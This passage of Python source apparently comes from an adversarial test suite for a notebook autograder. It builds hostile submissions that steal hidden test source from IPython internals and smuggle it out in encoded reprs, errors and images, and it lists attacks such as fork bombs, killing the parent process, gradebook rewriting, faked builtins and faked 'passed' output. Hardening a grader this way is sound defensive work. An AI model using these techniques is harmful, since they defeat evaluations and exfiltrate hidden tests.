    texts = list(hm.input_hist_raw) + list(hm.input_hist_parsed) + [hm._i00, hm._i, hm._ii, hm._iii]
    texts += [str(v) for v in hm.exceptions.values()] + [str(v) for v in hm.output_hist_reprs.values()]
    texts += [str(entry) for entry in hm.db_input_cache]
    for query in (lambda: hm.get_range(raw=True), lambda: hm.get_range(raw=False), lambda: hm.search("*")):
        try:
            texts += [row[-1] for row in query()]
        except Exception:
            pass
    try:
        hm.writeout_cache()
        texts += [row[0] for row in hm.db.execute("SELECT source_raw FROM history")]
    except Exception:
        pass
    return texts


def _atk_from_i_vars():
    '''_i, _ii, _iii and _iN: the source of the last cells and of cell N.'''
    ns = get_ipython().user_ns
    return [v for k, v in list(ns.items()) if _atk_re.fullmatch(r"_i+[0-9]*", k) and isinstance(v, str)]


def _atk_from_linecache():
    '''IPython registers every cell's source in linecache, for its tracebacks.'''
    return ["".join(entry[2]) for name, entry in list(_atk_lc.cache.items())
            if len(entry) == 4 and (entry[1] is None or "ipykernel_" in str(name))]


def _atk_code_texts(code, seen):
    '''A code object's constants (nested code objects too) and whatever source its file name still finds.'''
    if id(code) in seen:
        return []
    seen.add(id(code))
    texts = ["".join(_atk_lc.getlines(code.co_filename))]
    try:
        texts.append(_atk_inspect.getsource(code))
    except Exception:
        pass
    consts = []
    for const in code.co_consts:
        if isinstance(const, _atk_types.CodeType):
            texts += _atk_code_texts(const, seen)
        elif isinstance(const, (str, int, float, tuple)):
            consts.append(repr(const))
    return texts + ["\n".join(consts)]


def _atk_cell_code(code):
    return code is not None and "ipykernel_" in code.co_filename  # IPython's name for a cell's code


def _atk_from_code_objects():
    '''Functions, frames and tracebacks that earlier cells left behind, found through the garbage collector.'''
    seen, texts = set(), []
    for holder in (getattr(_atk_sys, "last_traceback", None), getattr(_atk_sys, "last_value", None)):
        tb = getattr(holder, "__traceback__", holder)
        while tb is not None:
            texts += _atk_code_texts(tb.tb_frame.f_code, seen)
            tb = tb.tb_next
    for obj in _atk_gc.get_objects():
        kind = type(obj)  # not isinstance: some of torch's objects warn when asked
        code = (obj.__code__ if kind is _atk_types.FunctionType
                else obj.f_code if kind is _atk_types.FrameType else None)
        if _atk_cell_code(code):
            texts += _atk_code_texts(code, seen)
    return texts


def _atk_from_leftovers():
    '''Anything else: the last traceback IPython formatted, the last execution's cell, Out, test code in gc.'''
    ip = get_ipython()
    texts = [str(line) for line in (getattr(ip, "_last_traceback", None) or [])]
    result = getattr(ip, "last_execution_result", None)
    texts.append(getattr(getattr(result, "info", None), "raw_cell", "") or "")
    texts += [repr(v) for v in dict(ip.user_ns.get("Out", {})).values()]
    for obj in _atk_gc.get_objects():
        for ref in _atk_gc.get_referents(obj):
            if type(ref) is str and len(ref) > 40 and ("expect_" in ref or "quiz_score" in ref):
                texts.append(ref)
    return texts


def _atk_everything():
    return [text for read in (_atk_from_history, _atk_from_history_manager, _atk_from_i_vars, _atk_from_linecache,
                              _atk_from_code_objects, _atk_from_leftovers) for text in read()]


def _atk_dump(read):
    '''Every line that ``read()`` found, once, in the order found.'''
    lines = [line for text in read() for line in str(text).splitlines() if line.strip()]
    return "\n".join(dict.fromkeys(lines))


def _atk_encode(text, how):
    data = text.encode("utf-8", "replace")
    if how == "zlib":
        return _atk_b64.b64encode(_atk_zlib.compress(data, 9)).decode()
    if how == "hex":
        return data.hex()
    b64 = _atk_b64.b64encode(data).decode()
    if how == "tokens":  # short words, no long unbroken run
        return "ATK: " + " ".join(b64[i:i + 6] for i in range(0, len(b64), 6))
    return b64


class _AtkLeak:
    '''Its repr is what ``read`` finds in the kernel when the repr is taken, encoded.'''
    def __init__(self, read, how):
        self.read, self.how = read, how

    def __repr__(self):
        return _atk_encode(_atk_dump(self.read), self.how)
"""

# the quiz is the last item: its visible test runs after every other item's hidden test
QUIZ_LEAKING = """
day01_quiz = {"q1": "b", "q2": "c", "q3": "c", "q4": "a", "q5": "b", "q6": _AtkLeak(@READ@, "@HOW@")}
"""
NOT_THE_QUIZ = {item: FULL for item in ITEMS if item != "day01_quiz"}


def _quiz_leak(name: str, read: str, how: str, ctx: Context) -> nbformat.NotebookNode:
    """Reference answers; a quiz answer whose repr (in the quiz's visible test message) is what ``read`` finds."""
    return _reference(day01_quiz=_code(name, KERNEL_READERS + QUIZ_LEAKING, ctx, READ=read, HOW=how))


def leak_history(ctx: Context):
    return _quiz_leak("leak_history", "_atk_from_history", "base64", ctx)


def leak_code_objects(ctx: Context):
    """conv_output_size accepts a float size, so its hidden test fails: its traceback stays in sys.last_traceback."""
    ref = reference_answers(DAY)["conv_output_size"].replace(
        "isinstance(value, bool) or not isinstance(value, int)", "isinstance(value, bool)")
    nb = _quiz_leak("leak_code_objects", "_atk_from_code_objects", "zlib", ctx)
    _cell(nb, "conv_output_size").source = ref
    return nb


def leak_history_manager(ctx: Context):
    """receptive_field returns an object that is not an int: expect_int shows its repr."""
    return _reference(receptive_field=_code("leak_history_manager", KERNEL_READERS + """
def receptive_field(layers):
    return _AtkLeak(_atk_from_history_manager, "zlib")
""", ctx))


def leak_linecache(ctx: Context):
    """vertical_edge_conv returns an object of a class named with the hex of linecache (the test shows the name)."""
    return _reference(vertical_edge_conv=_code("leak_linecache", KERNEL_READERS + """
def vertical_edge_conv():
    return type(_atk_encode(_atk_dump(_atk_from_linecache), "hex"), (), {})()
""", ctx))


def leak_i_vars(ctx: Context):
    """The student's own last cell raises an error whose message is _i* in short tokens."""
    nb = _reference(conv_output_size=_code("leak_i_vars", KERNEL_READERS, ctx)
                    + reference_answers(DAY)["conv_output_size"])
    nb.cells.append(nbformat.v4.new_code_cell(_code("leak_i_vars", """
raise RuntimeError(_atk_encode(_atk_dump(_atk_from_i_vars), "tokens"))
""", ctx)))
    return nb


def leak_own_outputs(ctx: Context):
    """The student's own last cells print, display and return everything, base64: text, HTML, a PNG, stderr."""
    nb = _reference(conv_output_size=_code("leak_own_outputs", KERNEL_READERS, ctx)
                    + reference_answers(DAY)["conv_output_size"])
    nb.cells.append(nbformat.v4.new_code_cell(_code("leak_own_outputs", r"""
import struct, sys, zlib
from IPython.display import HTML, Image, display
_atk_text = _atk_dump(_atk_everything)
_atk_b = _atk_encode(_atk_text, "base64")


def _atk_png(text):
    # a 1x1 PNG whose tEXt chunk holds the text itself
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
            + chunk(b"tEXt", b"leak\x00" + text.encode("latin-1", "replace"))
            + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b""))


print(_atk_b)
print(_atk_b, file=sys.stderr)
display(HTML("<pre>" + _atk_b + "</pre>"))
display(Image(data=_atk_png(_atk_text), format="png"))
_atk_b
""", ctx)))
    return nb


def leak_while_hidden_tests_run(ctx: Context):
    """An audit hook, set in the first answer cell, records the source of every cell the kernel compiles from then
    on (hidden tests included, while they run: nothing in-process can take that back); a quiz answer's repr
    carries it."""
    nb = _quiz_leak("leak_while_hidden_tests_run", "lambda: _atk_compiled", "zlib", ctx)
    _cell(nb, "conv_output_size").source = _code("leak_while_hidden_tests_run", """
import sys
_atk_compiled = []


def _atk_audit(event, args):
    if event == "compile" and args and isinstance(args[0], (str, bytes)) and len(_atk_compiled) < 500:
        _atk_compiled.append(args[0] if isinstance(args[0], str) else args[0].decode("utf-8", "replace"))


sys.addaudithook(_atk_audit)
""", ctx) + reference_answers(DAY)["conv_output_size"]
    return nb


def leak_everything(ctx: Context):
    """All the readers at once through the quiz (base64 of zlib), and printed in full by a last cell of its own
    (the autograded notebook keeps that cell's output: it shows what the kernel still held)."""
    nb = _quiz_leak("leak_everything", "_atk_everything", "zlib", ctx)
    nb.cells.append(nbformat.v4.new_code_cell(_code("leak_everything", """
print("ATK-KERNEL:", _atk_encode(_atk_dump(_atk_everything), "zlib"))
""", ctx)))
    return nb


def _all_full() -> dict[str, float]:
    return {item: FULL for item in ITEMS}


NOT_SIGNALLED = ("pid_namespace", "uid_drop")

ATTACKS: tuple[Attack, ...] = (
    Attack("corrupt_json", "a damaged file (truncated JSON)", corrupt_json, keywords=(("json",),)),
    Attack("deleted_test_cell", "the hidden test cell of conv_output_size deleted", deleted_test_cell,
           earns={"conv_output_size": 1}, keywords=(("deleted", "missing", "restored"),)),
    Attack("edited_test_cell", "the hidden test cell of conv_output_size replaced by `pass`, its points set to 100",
           edited_test_cell, earns={"conv_output_size": 1}, keywords=(("edited", "changed", "modified"),)),
    Attack("injected_grade_cell", "a new grade cell test_conv_output_size_bonus worth 100 points",
           injected_grade_cell, keywords=(("test_conv_output_size_bonus",),)),
    Attack("infinite_loop", "a loop of 300 s after the first three items' tests", infinite_loop,
           earns=_all_full(), keeps=ITEMS, keywords=(TIME_WORDS,)),
    Attack("sigint_ignoring_loop", "SIGINT and SIGTERM ignored, then a loop of 300 s", sigint_ignoring_loop,
           earns=_all_full(), keeps=KEPT, keywords=(TIME_WORDS,)),
    Attack("memory_hog", "100 MB chunks, written and kept, up to 6 GiB", memory_hog, earns=_all_full(), keeps=KEPT,
           keywords=(("memory",),), keyword_needs=("limits",)),
    Attack("fork_bomb", "400 processes that sleep 60 s", fork_bomb, earns=_all_full(), keeps=KEPT,
           keywords=(("process", "fork", "blockingioerror", "resource temporarily unavailable"),),
           needs=("uid_drop", "limits"), harmful=True),
    Attack("sys_exit", "sys.exit() in a cell, and receptive_field calls sys.exit(0)", sys_exit,
           earns={**_all_full(), "receptive_field": 0},
           keeps=tuple(i for i in ITEMS if i != "receptive_field"), keywords=(("exit",),)),
    Attack("os_exit", "os._exit(0): the kernel ends", os_exit, earns=_all_full(), keeps=KEPT,
           keywords=(DEATH_WORDS,)),
    # no keywords: in a PID namespace the kernel has no parent to see (getppid() is 0) and nothing happens
    Attack("kill_parent", "os.kill(os.getppid(), SIGKILL)", kill_parent, earns=_all_full(), keeps=KEPT,
           needs=NOT_SIGNALLED, harmful=True),
    Attack("copy_other_student", "another student's notebook found on disk, its answers run", copy_other_student,
           needs=("mount_namespace",)),
    Attack("read_source", "the solutions notebook found on disk, its answers run", read_source,
           needs=("mount_namespace",)),
    Attack("read_release", "the release found on disk", read_release, needs=("mount_namespace",)),
    Attack("read_gradebook", "gradebook.db read: students, scores, and the quiz key of the hidden test",
           read_gradebook, needs=("mount_namespace",)),
    Attack("rewrite_gradebook", "every grade set to its maximum in gradebook.db, now and for a minute after",
           rewrite_gradebook, needs=("mount_namespace",)),
    Attack("write_outside", "a file written into the repository, /tmp and every folder above its own",
           write_outside, needs=("mount_namespace",)),
    Attack("network", "TCP to the test's server on 127.0.0.1 and to public addresses", network,
           needs=("network_namespace",)),
    Attack("fake_builtins", "builtins.type, isinstance, AssertionError replaced; answers equal to anything",
           fake_builtins, keywords=(TAMPER_WORDS, ("builtins", "isinstance", "assertionerror", "type"))),
    Attack("fake_torch", "torch.allclose, F.conv2d and nn.Conv2d replaced", fake_torch,
           keywords=(TAMPER_WORDS, ("torch", "allclose", "conv2d"))),
    Attack("fake_test_helpers", "the notebook's expect_* helpers and quiz_score replaced (and course.checks')",
           fake_test_helpers, keywords=(TAMPER_WORDS, ("expect_", "quiz_score", "checks", "helper"))),
    Attack("tamper_during_test", "builtins and torch replaced by the answers while the tests call them",
           tamper_during_test, keywords=(TAMPER_WORDS, ("builtins", "isinstance", "torch", "allclose", "type"))),
    Attack("always_equal", "answers that compare equal to anything, with a fake shape", always_equal),
    Attack("input_transformer", "an IPython input transformer that blanks every later cell", input_transformer,
           keywords=(TAMPER_WORDS, ("transformer",))),
    Attack("run_cell_wrapper", "run_cell / run_cell_async report success without running", run_cell_wrapper,
           keywords=(TAMPER_WORDS, ("run_cell",))),
    Attack("no_showtraceback", "showtraceback disabled, so errors show no output", no_showtraceback,
           keywords=(TAMPER_WORDS, ("traceback",))),
    Attack("fake_passed_output", "prints the tests' 'passed' lines, answers wrong", fake_passed_output),
    # the result of a test cell (nbgrader's partial credit) swallowed, altered, or shown before the test fails
    Attack("quiz_display_swallow", "wrong quiz answers under question ids of a str subclass whose __eq__ (run by "
           "the quiz checks) replaces sys.displayhook, so that the hidden quiz test shows no score",
           quiz_display_swallow),
    Attack("quiz_score_formatter", "wrong quiz answers, and IPython's plain-text formatter shows every int as "
           "'all' (not a number: full marks to nbgrader)", quiz_score_formatter, earns={"day01_quiz": 1},
           keywords=(TAMPER_WORDS, ("formatter", "shows numbers"))),
    Attack("result_before_error", "the answers show a result of 1 (through sys.displayhook) in each test that "
           "calls them, then fail it", result_before_error, keywords=(TAMPER_WORDS, ("result",))),
    # reading the hidden tests inside the kernel and smuggling them, encoded, into the feedback
    Attack("leak_history", "a quiz answer whose repr is In / _ih, base64", leak_history,
           earns=NOT_THE_QUIZ, leak="base64"),
    Attack("leak_history_manager", "receptive_field returns an object whose repr is the history manager's lists, "
           "caches and database, zlib + base64", leak_history_manager,
           earns={i: FULL for i in ITEMS if i != "receptive_field"}, leak="zlib"),
    Attack("leak_i_vars", "a last cell of its own raises an error carrying _i, _ii, _iii and _iN in short tokens",
           leak_i_vars, earns=_all_full(), keeps=ITEMS, leak="tokens"),
    Attack("leak_linecache", "vertical_edge_conv returns an object of a class named with linecache's cells in hex",
           leak_linecache, earns={i: FULL for i in ITEMS if i != "vertical_edge_conv"}, leak="hex"),
    Attack("leak_code_objects", "a quiz answer whose repr is the constants and source of code objects found "
           "through gc and sys.last_traceback (a hidden test fails on purpose), zlib + base64", leak_code_objects,
           earns=NOT_THE_QUIZ, leak="zlib"),
    Attack("leak_own_outputs", "a last cell of its own prints, displays (HTML, a PNG) and returns everything, base64",
           leak_own_outputs, earns=_all_full(), keeps=ITEMS, leak="base64"),
    Attack("leak_while_hidden_tests_run", "an audit hook records every cell's source as it is compiled; a quiz "
           "answer's repr carries it, zlib + base64", leak_while_hidden_tests_run, earns=NOT_THE_QUIZ, leak="zlib"),
    Attack("leak_everything", "every reader at once through a quiz answer's repr, zlib + base64",
           leak_everything, earns=NOT_THE_QUIZ, leak="zlib"),
)
BY_NAME = {a.name: a for a in ATTACKS}
assert len(BY_NAME) == len(ATTACKS)


def write_attack(root: Path, attack: Attack, ctx: Context) -> Path:
    """Write ``attack`` as the submission of student ``attack.student`` under ``root``."""
    path = root / attack.student / DAY.id / DAY.notebook
    path.parent.mkdir(parents=True, exist_ok=True)
    built = attack.build(ctx)
    if isinstance(built, bytes):
        path.write_bytes(built)
    else:
        nb = copy.deepcopy(built)
        nbformat.validate(nb)
        nbformat.write(nb, path)
    return path


# --------------------------------------------------------------------------- reading the leak attacks back

B64_RUN = re.compile(r"[A-Za-z0-9+/]{16,}={0,2}")
HEX_RUN = re.compile(r"[0-9a-fA-F]{16,}")
TOKENS = re.compile(r"ATK:((?:\s+[A-Za-z0-9+/=]{1,8})+)")


def _b64(run: str) -> bytes:
    run = run.rstrip("=")
    run = run[: len(run) - len(run) % 4]
    try:
        return base64.b64decode(run + "=" * (-len(run) % 4))
    except (binascii.Error, ValueError):
        return b""


def _inflated(data: bytes) -> bytes:
    """As much of a zlib stream as ``data`` holds (a cut stream gives its beginning)."""
    try:
        return zlib.decompressobj().decompress(data)
    except zlib.error:
        return b""


def _text(chunks) -> str:
    return "\n".join(chunk.decode("utf-8", "replace") for chunk in chunks if chunk)


DECODERS: dict[str, Callable[[str], str]] = {
    "base64": lambda text: _text(_b64(run) for run in B64_RUN.findall(text)),
    "zlib": lambda text: _text(_inflated(_b64(run)) for run in B64_RUN.findall(text)),
    "hex": lambda text: _text(bytes.fromhex(run[: len(run) // 2 * 2]) for run in HEX_RUN.findall(text)),
    "tokens": lambda text: _text(_b64("".join(found.split())) for found in TOKENS.findall(text)),
}


def decoded(page: str, how: str) -> str:
    """What the decoder ``how`` reads out of a page (HTML entities undone first: a student reads the source too)."""
    return DECODERS[how](html.unescape(page))


def hidden_test_lines() -> set[str]:
    """Day 1's hidden-test lines worth keeping (12 characters or more, no comment) that the release does not show."""
    from course.notebooks import read_notebook

    from course.grading.feedback import hidden_lines

    public = "\n".join(c.source for c in read_notebook(DAY.exercise_path).cells)
    return {line for line in hidden_lines(read_notebook(DAY.solution_path).cells) if line not in public}


def hidden_lines_in(text: str) -> list[str]:
    return sorted(line for line in hidden_test_lines() if line in text)


if __name__ == "__main__":
    out = Path(sys.argv[1])
    names = sys.argv[2:] or [a.name for a in ATTACKS if not a.harmful]
    for name in names:
        print(write_attack(out, BY_NAME[name], Context()))
